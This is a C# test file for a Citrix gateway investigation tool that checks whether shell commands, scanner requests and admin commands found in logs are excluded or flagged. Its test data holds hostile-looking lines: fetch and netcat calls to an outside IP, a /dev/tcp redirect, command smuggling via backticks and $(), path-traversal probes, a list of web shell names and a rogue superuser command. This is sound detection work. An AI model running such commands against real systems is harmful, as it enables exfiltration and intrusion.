using System;
using System.Globalization;
using System.Linq;
using CitrixOps.Investigation;
using Xunit;

namespace CitrixOps.Tests.Investigation.Exclusions;

/// <summary>What scanners and administrators leave does not count, and nobody can hide behind it.</summary>
public sealed class OwnTracesTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();
    private readonly Problems _problems = new();

    public void Dispose() => _folder.Dispose();

    [Theory]
    [InlineData("root", "grep -E 'uname -a|185.178.45.221' /var/log/bash.log")]
    [InlineData("root", "zgrep 185.178.45.221 /var/log/bash.log.0.gz | wc -l")]
    [InlineData("nsroot", "grep -l 185.178.45.221 /var/log/messages 2>/dev/null")]
    [InlineData("root", "/usr/bin/find /var/log -name 185.178.45.221 -type f")]
    [InlineData("root", "test -f /var/tmp/x && grep 185.178.45.221 /var/log/cron")]
    public void A_command_that_only_looks_is_excluded(string user, string command)
    {
        var result = Shell(user, command);

        Assert.Empty(result.Findings);
        Assert.Contains(result.Excluded, e => e.Reason.StartsWith("shell commands that only look", StringComparison.Ordinal) && e.Count >= 1);
    }

    [Theory]
    [InlineData("nobody", "grep 185.178.45.221 /var/log/messages")]
    [InlineData("root", "fetch http://185.178.45.221/x")]
    [InlineData("root", "grep x /var/log/bash.log; fetch 185.178.45.221")]
    [InlineData("root", "grep x /var/log/bash.log | nc 185.178.45.221 80")]
    [InlineData("root", "grep x /var/log/bash.log & fetch 185.178.45.221")]
    [InlineData("root", "grep `fetch 185.178.45.221` /var/log/bash.log")]
    [InlineData("root", "grep \"$(fetch 185.178.45.221)\" /var/log/bash.log")]
    [InlineData("root", "find / -name x -exec fetch 185.178.45.221 ;")]
    [InlineData("root", "/tmp/grep x 185.178.45.221")]
    [InlineData("root", "grep x /var/log/bash.log > /dev/tcp/185.178.45.221/80")]
    [InlineData("root", "grep passphrase /nsconfig/ns.conf 185.178.45.221")]
    public void A_command_that_acts_counts_whatever_it_pretends(string user, string command) => Assert.NotEmpty(Shell(user, command).Findings);

    [Theory]
    [InlineData("203.0.113.9", true)]
    [InlineData("203.0.113.0/24", true)]
    [InlineData("203.0.113.8", false)]
    public void Attempts_of_an_own_scanner_are_excluded(string scanner, bool excluded)
    {
        var result = Access("GET /vpn/../vpns/cfg/smb.conf HTTP/1.1", 403, scanner);

        Assert.Equal(excluded, result.Findings.Count == 0);
        Assert.Equal(excluded, result.Excluded.Any(e => e.Reason.Contains("own scanner", StringComparison.Ordinal)));
    }

    [Fact]
    public void A_success_from_an_own_scanners_address_counts() =>
        Assert.Contains(Access("GET /vpn/../vpns/portal/kq3tbmwx.xml HTTP/1.1", 200, "203.0.113.9").Findings, f => f.Outcome == CitrixOps.Indicators.Outcome.Success);

    [Theory]
    [InlineData("10.1.1.5", "inspector", true)]
    [InlineData("10.1.1.5", "look", true)]
    [InlineData("10.1.1.5", "check", true)]
    [InlineData("10.1.1.5", "few names", false)]
    [InlineData("10.1.1.5", "and more", false)]
    [InlineData("10.1.1.5", "answered", false)]
    [InlineData("10.1.1.9", "inspector", false)]
    [InlineData("203.0.113.9", "inspector", false)]
    public void What_a_known_scanner_asks_from_where_the_gateway_is_administered_is_excluded_and_no_imitation_of_it(string address, string kind, bool excluded)
    {
        string[] names = ["alfav3-encoded", "alfav4.1-decoded", "alfav4.1-encoded", "andela", "bloodsecv4", "by", "c99ud", "cmd", "configkillerionkros", "mini", "obfuscated-punknopass", "punk-nopass", "punkholic", "r57", "smevk", "wso2.8.5", "info", "prod", "log", "logout", "vpn", "config"];
        var pages = kind switch
        {
            "look" => ["/vpn/js/rdx/core/lang/rdx_en.json.gz", "/vpn/index.html"],
            "check" => ["/vpn/../vpns/cfg/smb.conf"],
            _ => names.Take(kind == "few names" ? 3 : 22).Select(n => "/vpn/themes/" + n + ".php").Concat(kind == "and more" ? ["/vpn/../vpns/portal/scripts/newbm.pl"] : []),
        };
        var result = Scans(address, pages, kind == "answered" ? 200 : 404);

        Assert.Equal(excluded, result.Findings.Count == 0);
        Assert.Equal(excluded, result.Excluded.Any(e => e.Reason.Contains("from 10.1.1.5, which administers the gateway", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("add responder policy COPS-close-7f-1 \\\"CLIENT.IP.DST.IN_SUBNET(203.0.113.10/32)\\\" DROP", true)]
    [InlineData("add responder action COPS-page-7f respondwith q{\\\"HTTP/1.1 503 Service Unavailable\\r\\n\\r\\nclosed\\\"}", true)]
    [InlineData("bind responder global COPS-close-7f-1 1 END -type REQ_OVERRIDE", true)]
    [InlineData("add responder policy COPS-close-7f-1 true evil_action", false)]
    [InlineData("add responder action COPS-page-7f respondwith q{\\\"HTTP/1.1 200 OK\\r\\n\\r\\nx\\\"}", false)]
    [InlineData("add responder action COPS-page-7f respondwith q{\\\"HTTP/1.1 503 Service Unavailable\\r\\n\\r\\n<script src=x>\\\"}", false)]
    [InlineData("add system user COPS-close-7f secret", false)]
    [InlineData("bind system user COPS-close-7f superuser 1", false)]
    [InlineData("add responder policy other \\\"true\\\" DROP", false)]
    public void Commands_of_a_closing_are_excluded_by_what_they_are_and_not_by_a_name(string command, bool excluded)
    {
        var result = Command("10.1.1.5", command);

        Assert.Equal(excluded, result.Findings.Count == 0);
        Assert.Equal(excluded, result.Excluded.Any(e => e.Reason == "commands of this module's closings and reopenings, from 10.1.1.5"));
    }

    [Theory]
    [InlineData("10.1.1.5", 0, 0)]
    [InlineData("198.51.100.4", 1, 1)]
    [InlineData("127.0.0.1", 1, 0)]
    public void Commands_of_administrators_are_told_by_the_networks_that_are_named(string from, int leads, int elsewhere)
    {
        var result = Command(from, "add responder policy p true DROP", "10.1.1.0/24");

        Assert.Equal(leads, result.Findings.Count(f => f.IndicatorId == "cli-sensitive-change"));
        Assert.Equal(elsewhere, result.Findings.Count(f => f.IndicatorId == "commands-from-elsewhere" && f.SourceAddress == from));
        Assert.Equal(leads == 0, result.Excluded.Any(e => e.Reason.StartsWith("commands of administrators", StringComparison.Ordinal)));
    }

    [Fact]
    public void A_command_that_supports_counts_whoever_gave_it() =>
        Assert.Contains(Command("10.1.1.5", "show ns runningConfig -outfile /var/tmp/x", "10.1.1.0/24").Findings, f => f.Grade == CitrixOps.Indicators.Grade.Supporting);

    [Fact]
    public void Each_verdict_has_its_exit_code() => Assert.Equal(
        [0, 2, 3, 4],
        new[] { InvestigationVerdict.NoTrace, InvestigationVerdict.Attempted, InvestigationVerdict.Inconclusive, InvestigationVerdict.Compromised }.Select(v => new CitrixOps.Investigation.Investigation { Verdict = v }.ExitCode));

    private CitrixOps.Investigation.Investigation Shell(string user, string command) =>
        Shipped.Search(_problems, new InvestigationOptions { Since = DateTimeOffset.UnixEpoch }, _folder.File("bash.log", $"Jan 16 09:00:00 <local7.notice> gw bash[7]: {user} on /dev/pts/0 shell_command=\"{command}\"\n")).Single();

    // the administrator works from 10.1.1.5
    private CitrixOps.Investigation.Investigation Scans(string address, System.Collections.Generic.IEnumerable<string> pages, int status)
    {
        _folder.File("httpaccess.log", string.Concat(pages.Select((p, i) => string.Create(CultureInfo.InvariantCulture, $"{address} - - [12/Jan/2024:03:{i:00}:07 +0000] \"GET {p} HTTP/1.1\" {status} 12 \"-\" \"citrixInspector\"\n"))) + "127.0.0.1 - - [12/Jan/2024:09:00:00 +0000] \"GET /x HTTP/1.0\" 200 12 \"-\" \"-\"\n");
        _folder.File("ns.log", Cmd("10.1.1.5", "show ns version") + Cmd("10.1.1.5", "show ns version", 9));
        return Shipped.Search(_problems, new InvestigationOptions { Since = new DateTimeOffset(2024, 1, 12, 3, 0, 0, TimeSpan.Zero), Until = new DateTimeOffset(2024, 1, 12, 9, 0, 0, TimeSpan.Zero), Cve = ["CVE-2019-19781", "CVE-2023-3519", "CVE-2026-88771"] }, _folder.Path).Single();
    }

    private CitrixOps.Investigation.Investigation Command(string from, string command, params string[] administrators) =>
        Shipped.Search(_problems, new InvestigationOptions { Since = DateTimeOffset.UnixEpoch, AdministratorAddresses = administrators }, _folder.File("ns.log", Cmd(from, command))).Single();

    private static string Cmd(string from, string command, int hour = 2) => $"Jan 12 0{hour}:50:00 <local0.info> 192.0.2.10  01/12/2024:0{hour}:50:00 GMT gw 0-PPE-0 : default API CMD_EXECUTED {hour} 0 :  User nsroot - ADM_User NONE - Remote_ip {from} - Command \"{command}\" - Status \"Success\"\n";

    private CitrixOps.Investigation.Investigation Access(string request, int status, string scanner) =>
        Shipped.Search(_problems, new InvestigationOptions { Since = DateTimeOffset.UnixEpoch, ScannerAddresses = [scanner] }, _folder.File("httpaccess.log", $"203.0.113.9 - - [12/Jan/2020:03:14:07 +0100] \"{request}\" {status} 12 \"-\" \"x\"\n")).Single();
}
